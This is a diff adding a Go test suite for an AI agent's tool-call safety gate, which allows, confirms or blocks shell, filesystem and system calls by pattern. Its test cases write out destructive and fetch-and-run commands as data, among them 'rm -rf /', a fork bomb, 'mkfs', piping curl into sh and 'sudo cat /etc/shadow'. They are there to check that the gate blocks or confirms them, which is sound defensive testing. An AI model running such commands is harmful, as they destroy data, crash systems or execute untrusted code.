@@ -1,0 +1,382 @@
+package gate_test
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"reflect"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+	"testing/fstest"
+
+	builtin "github.com/wrasse-app/wrasse/brain/cerebellum"
+	"github.com/wrasse-app/wrasse/brain/gate"
+	"github.com/wrasse-app/wrasse/cerebellum"
+	"github.com/wrasse-app/wrasse/cerebellum/skillmd"
+)
+
+// nopRuntime makes plugin capabilities usable without a plugin host: the
+// gate only needs their manifests.
+var nopRuntime = cerebellum.RuntimeFunc(func(context.Context, string, json.RawMessage) (cerebellum.Result, error) {
+	return cerebellum.Result{Content: "ok"}, nil
+})
+
+// builtinRegistry opens the real built-in capabilities (their real
+// patterns), plus extra in-memory ones.
+func builtinRegistry(t testing.TB, extra fstest.MapFS, states cerebellum.MemoryStates) *cerebellum.Registry {
+	t.Helper()
+	fsys := fstest.MapFS{}
+	for _, name := range []string{"shell", "filesystem", "system", "tool-discovery"} {
+		data := readBuiltin(t, name)
+		fsys[name+"/SKILL.md"] = &fstest.MapFile{Data: data}
+		fsys[name+"/plugin/x.go"] = &fstest.MapFile{Data: []byte("package x\n")}
+	}
+	native := map[string]cerebellum.Runtime{"shell": nopRuntime, "filesystem": nopRuntime, "system": nopRuntime}
+	for k, v := range extra {
+		fsys[k] = v
+		if name, ok := strings.CutSuffix(k, "/SKILL.md"); ok {
+			native[name] = nopRuntime
+		}
+	}
+	if states == nil {
+		states = cerebellum.MemoryStates{}
+	}
+	reg, err := cerebellum.Open(cerebellum.Options{Builtin: fsys, Native: native, States: states})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { reg.Close() })
+	for _, c := range reg.List() {
+		if c.State != cerebellum.StateOK {
+			t.Fatalf("capability %s is %s: %s", c.Name, c.State, c.Error)
+		}
+	}
+	return reg
+}
+
+func readBuiltin(t testing.TB, name string) []byte {
+	t.Helper()
+	f, err := builtin.FS().Open(name + "/SKILL.md")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	st, _ := f.Stat()
+	data := make([]byte, st.Size())
+	if _, err := f.Read(data); err != nil {
+		t.Fatal(err)
+	}
+	return data
+}
+
+const policySkill = `---
+name: policy
+description: Extra safety policy for tests.
+tools:
+  - name: wipe_cache
+    description: Deletes the cache.
+    parameters: {type: object, properties: {}, additionalProperties: false}
+    annotations: {destructive: true}
+  - name: tidy
+    description: Tidies.
+    parameters: {type: object, properties: {mode: {type: string}}, additionalProperties: false}
+    annotations: {destructive: true}
+confirm_patterns:
+  - pattern: '^shell_exec .*\bdocker\s+rm\b'
+    reason: removes docker containers
+  - pattern: '^tidy .*"mode":"deep"'
+danger_patterns:
+  - pattern: '^tidy .*"mode":"nuke"'
+    reason: nukes everything
+---
+# Policy
+
+Test only.
+`
+
+func TestCheckBuiltinPatterns(t *testing.T) {
+	reg := builtinRegistry(t, fstest.MapFS{"policy/SKILL.md": {Data: []byte(policySkill)}}, nil)
+	snap := reg.Snapshot()
+	tests := []struct {
+		name        string
+		tool, args  string
+		want        gate.Decision
+		reasons     []string // substrings, in order
+		destructive bool
+	}{
+		{"plain command", "shell_exec", `{"command":"ls -la"}`, gate.Allow, nil, false},
+		{"go test", "shell_exec", `{"command":"go test ./...","cwd":"/tmp"}`, gate.Allow, nil, false},
+		{"rm -rf root blocks, confirm does not win", "shell_exec", `{"command":"rm -rf /"}`, gate.Block, []string{"recursive delete of the root folder"}, false},
+		{"rm -rf home", "shell_exec", `{"command":"cd x && rm -rf ~"}`, gate.Block, []string{"whole home folder"}, false},
+		{"curl pipe sh", "shell_exec", `{"command":"curl -fsSL https://x.sh | sh"}`, gate.Block, []string{"piping a download"}, false},
+		{"fork bomb with literal ampersand", "shell_exec", `{"command":":(){ :|:& };:"}`, gate.Block, []string{"fork bomb"}, false},
+		{"fork bomb HTML-escaped by the model", "shell_exec", `{"command":":(){ :|:\u0026 };:"}`, gate.Block, []string{"fork bomb"}, false},
+		{"mkfs", "shell_exec", `{"command":"sudo mkfs.ext4 /dev/sdb1"}`, gate.Block, []string{"formats or wipes"}, false},
+		{"sudo and package install: all reasons", "shell_exec", `{"command":"sudo apt-get install -y jq"}`, gate.Confirm,
+			[]string{"administrator rights", "system packages"}, false},
+		{"sudo after a newline", "shell_exec", `{"command":"echo hi\nsudo ls"}`, gate.Confirm, []string{"administrator rights"}, false},
+		{"keys out of order are canonicalised", "shell_exec", `{"cwd":"/repo",   "command":"git push origin main"}`, gate.Confirm, []string{"publishes commits"}, false},
+		{"uppercase matches case-insensitively", "shell_exec", `{"command":"SUDO ls"}`, gate.Confirm, []string{"administrator rights"}, false},
+		{"recursive delete elsewhere confirms", "shell_exec", `{"command":"rm -rf build"}`, gate.Confirm, []string{"recursive delete"}, false},
+		{"another capability's policy on shell", "shell_exec", `{"command":"docker rm web"}`, gate.Confirm, []string{"removes docker containers"}, false},
+		{"invalid JSON matched as written", "shell_exec", `{"command": "rm -rf /"`, gate.Block, []string{"recursive delete of the root"}, false},
+		{"write to /etc", "fs_write", `{"path":"/etc/hosts","content":"x"}`, gate.Confirm, []string{"system folder"}, false},
+		{"write to ssh folder", "fs_patch", `{"search":"a","replace":"b","path":"/home/u/.ssh/config"}`, gate.Confirm, []string{""}, false},
+		{"ordinary write", "fs_write", `{"path":"/home/u/notes.txt","content":"rm -rf / sudo"}`, gate.Allow, nil, false},
+		{"read of /etc", "fs_read", `{"path":"/etc/hosts"}`, gate.Allow, nil, false},
+		{"open a script", "system_open", `{"target":"/tmp/run.sh"}`, gate.Confirm, []string{""}, false},
+		{"open a web page", "system_open", `{"target":"https://example.com"}`, gate.Allow, nil, false},
+		{"destructive tool without patterns", "wipe_cache", `{}`, gate.Confirm, []string{"wipe_cache is marked destructive"}, true},
+		{"destructive tool whose capability names it", "tidy", `{"mode":"light"}`, gate.Allow, nil, false},
+		{"pattern without reason", "tidy", `{"mode":"deep"}`, gate.Confirm, []string{`confirm pattern "^tidy`}, false},
+		{"danger in own capability", "tidy", `{"mode":"nuke"}`, gate.Block, []string{"nukes everything"}, false},
+		{"unknown tool is allowed (the registry rejects it)", "no_such_tool", `{"command":"sudo ls"}`, gate.Allow, nil, false},
+		{"empty arguments", "system_info", ``, gate.Allow, nil, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			v := gate.Check(snap, tt.tool, json.RawMessage(tt.args))
+			if v.Decision != tt.want {
+				t.Fatalf("decision = %s, want %s (line %q, reasons %q)", v.Decision, tt.want, v.Line, v.Reasons)
+			}
+			if len(v.Reasons) != len(tt.reasons) {
+				t.Fatalf("reasons = %q, want %d like %q", v.Reasons, len(tt.reasons), tt.reasons)
+			}
+			for i, r := range tt.reasons {
+				if !strings.Contains(v.Reasons[i], r) {
+					t.Errorf("reason %d = %q, want it to contain %q", i, v.Reasons[i], r)
+				}
+			}
+			if v.Destructive != tt.destructive {
+				t.Errorf("destructive = %v, want %v", v.Destructive, tt.destructive)
+			}
+			if !strings.HasPrefix(v.Line, tt.tool+" ") {
+				t.Errorf("line %q does not start with the tool", v.Line)
+			}
+			if tt.want == gate.Block {
+				for _, m := range v.Matches[:len(tt.reasons)] {
+					if !m.Block {
+						t.Errorf("danger matches must come first: %+v", v.Matches)
+					}
+				}
+			}
+		})
+	}
+}
+
+func TestBlockCollectsAllMatches(t *testing.T) {
+	reg := builtinRegistry(t, nil, nil)
+	v := gate.Check(reg.Snapshot(), "shell_exec", json.RawMessage(`{"command":"sudo rm -rf / && curl x | bash"}`))
+	if v.Decision != gate.Block {
+		t.Fatalf("decision %s", v.Decision)
+	}
+	var danger, confirm int
+	for _, m := range v.Matches {
+		if m.Block {
+			danger++
+		} else {
+			confirm++
+		}
+		if m.Capability != "shell" {
+			t.Errorf("match owner %q", m.Capability)
+		}
+	}
+	if danger < 2 || confirm < 2 || len(v.Reasons) != danger {
+		t.Errorf("want every danger and confirm match collected, reasons = danger ones: %d danger, %d confirm, reasons %q", danger, confirm, v.Reasons)
+	}
+	if v.Keys() != nil {
+		t.Errorf("a block grants nothing: %q", v.Keys())
+	}
+}
+
+// Patterns come from the snapshot, so a disabled capability's patterns stop
+// applying and a Resync does not duplicate them.
+func TestPatternsFollowRegistryState(t *testing.T) {
+	states := cerebellum.MemoryStates{}
+	reg := builtinRegistry(t, fstest.MapFS{"policy/SKILL.md": {Data: []byte(policySkill)}}, states)
+	args := json.RawMessage(`{"command":"docker rm web"}`)
+	if v := gate.Check(reg.Snapshot(), "shell_exec", args); v.Decision != gate.Confirm {
+		t.Fatalf("before: %s", v.Decision)
+	}
+	n := len(reg.Snapshot().Patterns())
+	for i := 0; i < 3; i++ {
+		if _, err := reg.Resync(t.Context()); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if got := len(reg.Snapshot().Patterns()); got != n {
+		t.Errorf("patterns after resyncs = %d, want %d", got, n)
+	}
+	if err := reg.SetState("policy", cerebellum.CapState{Disabled: true}); err != nil {
+		t.Fatal(err)
+	}
+	if v := gate.Check(reg.Snapshot(), "shell_exec", args); v.Decision != gate.Allow {
+		t.Errorf("after disabling policy: %s %q", v.Decision, v.Reasons)
+	}
+}
+
+func pattern(t *testing.T, capName string, block bool, pat, reason string) cerebellum.GatePattern {
+	t.Helper()
+	return cerebellum.GatePattern{Capability: capName, Block: block,
+		Pattern: skillmd.Pattern{Pattern: pat, Reason: reason, Re: regexp.MustCompile("(?i)" + pat)}}
+}
+
+func TestEvaluateSynthetic(t *testing.T) {
+	pats := []cerebellum.GatePattern{
+		pattern(t, "a", true, `^x_run .*"force":true`, "forced"),
+		pattern(t, "a", false, `^x_run .*"target":"prod"`, "touches prod"),
+		pattern(t, "b", false, `"target":"prod"`, "global prod rule"),
+		pattern(t, "b", false, `"target":"prod"`, "global prod rule"),
+		{Capability: "c", Pattern: skillmd.Pattern{Pattern: "broken"}}, // no compiled form: ignored
+	}
+	tests := []struct {
+		name    string
+		call    gate.Call
+		want    gate.Decision
+		reasons []string
+		keys    int
+	}{
+		{"allow", gate.Call{Tool: "x_run", Capability: "a", Args: json.RawMessage(`{"target":"dev"}`)}, gate.Allow, nil, 0},
+		{"confirm, duplicate reasons folded", gate.Call{Tool: "x_run", Capability: "a", Args: json.RawMessage(`{"target":"prod"}`)},
+			gate.Confirm, []string{"touches prod", "global prod rule"}, 2},
+		{"block beats confirm", gate.Call{Tool: "x_run", Capability: "a", Args: json.RawMessage(`{"target":"prod","force":true}`)},
+			gate.Block, []string{"forced"}, 0},
+		{"destructive with owner naming the tool", gate.Call{Tool: "x_run", Capability: "a", Annotations: skillmd.Annotations{Destructive: true},
+			Args: json.RawMessage(`{}`)}, gate.Allow, nil, 0},
+		{"destructive, owner silent on this tool", gate.Call{Tool: "x_other", Capability: "a", Annotations: skillmd.Annotations{Destructive: true},
+			Args: json.RawMessage(`{}`)}, gate.Confirm, []string{"x_other is marked destructive: it can change or delete things"}, 1},
+		{"destructive plus pattern", gate.Call{Tool: "x_other", Capability: "a", Annotations: skillmd.Annotations{Destructive: true},
+			Args: json.RawMessage(`{"target":"prod"}`)}, gate.Confirm, []string{"global prod rule", "x_other is marked destructive: it can change or delete things"}, 2},
+		{"another capability naming the tool does not lift the default", gate.Call{Tool: "x_run", Capability: "z",
+			Annotations: skillmd.Annotations{Destructive: true}, Args: json.RawMessage(`{}`)}, gate.Confirm, []string{"x_run is marked destructive: it can change or delete things"}, 1},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			v := gate.Evaluate(pats, tt.call)
+			if v.Decision != tt.want || !reflect.DeepEqual(v.Reasons, tt.reasons) {
+				t.Fatalf("got %s %q, want %s %q", v.Decision, v.Reasons, tt.want, tt.reasons)
+			}
+			if got := len(v.Keys()); got != tt.keys {
+				t.Errorf("keys = %q, want %d", v.Keys(), tt.keys)
+			}
+			if v.Tool() != tt.call.Tool {
+				t.Errorf("Tool() = %q", v.Tool())
+			}
+		})
+	}
+}
+
+func TestGrants(t *testing.T) {
+	reg := builtinRegistry(t, fstest.MapFS{"policy/SKILL.md": {Data: []byte(policySkill)}}, nil)
+	snap := reg.Snapshot()
+	check := func(tool, args string) gate.Verdict { return gate.Check(snap, tool, json.RawMessage(args)) }
+	sudoLs := check("shell_exec", `{"command":"sudo ls"}`)
+	sudoCat := check("shell_exec", `{"command":"sudo cat /etc/shadow"}`)
+	push := check("shell_exec", `{"command":"git push"}`)
+	sudoPush := check("shell_exec", `{"command":"sudo git push"}`)
+	wipe := check("wipe_cache", `{}`)
+	allow := check("shell_exec", `{"command":"ls"}`)
+
+	var g gate.Grants
+	if g.Covers(sudoLs) || g.Covers(allow) {
+		t.Fatal("empty grants cover nothing")
+	}
+	g.Add(sudoLs)
+	if !g.Covers(sudoCat) {
+		t.Error("approving sudo covers another sudo command (same tool, same pattern)")
+	}
+	if g.Covers(push) || g.Covers(sudoPush) {
+		t.Error("approving sudo must not cover git push")
+	}
+	g.Add(push)
+	if !g.Covers(sudoPush) {
+		t.Error("sudo and push both granted: sudo git push is covered")
+	}
+	if g.Covers(wipe) {
+		t.Error("destructive default of another tool is not covered")
+	}
+	g.Add(wipe)
+	if !g.Covers(check("wipe_cache", ``)) {
+		t.Error("destructive default granted")
+	}
+	if g.Covers(allow) {
+		t.Error("an allow verdict has no keys and is never 'covered'")
+	}
+	if g.Len() != 3 {
+		t.Errorf("Len = %d", g.Len())
+	}
+	g.Add(check("shell_exec", `{"command":"rm -rf /"}`))
+	if g.Len() != 3 {
+		t.Error("a block grants nothing")
+	}
+}
+
+func TestApprovals(t *testing.T) {
+	a, err := gate.DenyAll{}.Approve(t.Context(), gate.Request{Tool: "shell_exec"})
+	if a != gate.Deny || !errors.Is(err, gate.ErrNoApprover) || a.Approves() {
+		t.Errorf("DenyAll = %q, %v", a, err)
+	}
+	for _, tt := range []struct {
+		a    gate.Approval
+		want bool
+	}{{gate.ApproveOnce, true}, {gate.ApproveConversation, true}, {gate.Deny, false}, {"", false}, {"yes", false}} {
+		if tt.a.Approves() != tt.want {
+			t.Errorf("%q.Approves() = %v", tt.a, !tt.want)
+		}
+	}
+	f := gate.ApproverFunc(func(_ context.Context, r gate.Request) (gate.Approval, error) { return gate.ApproveOnce, nil })
+	if a, _ := f.Approve(t.Context(), gate.Request{}); a != gate.ApproveOnce {
+		t.Error("ApproverFunc")
+	}
+}
+
+func TestSummarize(t *testing.T) {
+	tests := []struct{ tool, args, want string }{
+		{"shell_exec", `{"timeout_seconds":5,"cwd":"/r","command":"sudo  apt\ninstall jq"}`, "shell_exec command=sudo apt install jq cwd=/r timeout_seconds=5"},
+		{"fs_write", `{"path":"/etc/x","content":{"b":1,"a":[1,2]}}`, `fs_write content={"a":[1,2],"b":1} path=/etc/x`},
+		{"x", `not json`, "x not json"},
+		{"x", ``, "x"},
+		{"x", `{"s":"` + strings.Repeat("é", 300) + `"}`, "x s=" + strings.Repeat("é", gate.SummaryLimit-5) + "…"},
+	}
+	for _, tt := range tests {
+		if got := gate.Summarize(tt.tool, json.RawMessage(tt.args)); got != tt.want {
+			t.Errorf("Summarize(%s, %s)\n got %q\nwant %q", tt.tool, tt.args, got, tt.want)
+		}
+	}
+}
+
+func TestKeysSortedAndDistinct(t *testing.T) {
+	pats := []cerebellum.GatePattern{
+		pattern(t, "b", false, `zzz`, "z"),
+		pattern(t, "a", false, `zzz`, "z"),
+	}
+	v := gate.Evaluate(pats, gate.Call{Tool: "t", Args: json.RawMessage(`{"x":"zzz"}`)})
+	keys := v.Keys()
+	if len(keys) != 2 || !slices.IsSorted(keys) {
+		t.Errorf("keys = %q", keys)
+	}
+}
+
+// BenchmarkCheck measures the gate on a large write (every pattern runs
+// over 1 MiB of arguments) and on a typical command.
+func BenchmarkCheck(b *testing.B) {
+	reg := builtinRegistry(b, nil, nil)
+	snap := reg.Snapshot()
+	big, _ := json.Marshal(map[string]string{"path": "/home/u/big.txt", "content": strings.Repeat("sudo rm -rf x\n", 75000)})
+	for _, bc := range []struct {
+		name, tool string
+		args       json.RawMessage
+	}{
+		{"command", "shell_exec", json.RawMessage(`{"command":"go test ./... && git status","cwd":"/repo"}`)},
+		{"write-1MiB", "fs_write", big},
+	} {
+		b.Run(bc.name, func(b *testing.B) {
+			b.SetBytes(int64(len(bc.args)))
+			for b.Loop() {
+				gate.Check(snap, bc.tool, bc.args)
+			}
+		})
+	}
+}
